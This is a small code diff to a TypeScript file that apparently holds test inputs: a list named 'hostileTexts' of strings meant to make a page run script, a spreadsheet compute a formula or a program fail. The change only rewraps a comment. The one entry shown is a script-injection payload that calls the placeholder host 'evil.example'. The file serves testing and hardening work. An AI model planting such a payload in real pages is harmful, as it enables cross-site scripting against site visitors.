@@ -1,8 +1,8 @@
 const marks = '\u200b\u200d\u2060'
 
 /**
- * What somebody may enter as a text, in the hope that a page runs it, a spreadsheet computes it or a program trips over it.
- * `pwned` is what a script would set, `evil.example` whom it would ask.
+ * What somebody may enter as a text, in the hope that a page runs it, a spreadsheet computes it or a program trips over
+ * it. `pwned` is what a script would set, `evil.example` whom it would ask.
  */
 export const hostileTexts: readonly string[] = [
   '<script>pwned=1;fetch("//evil.example")</script>',
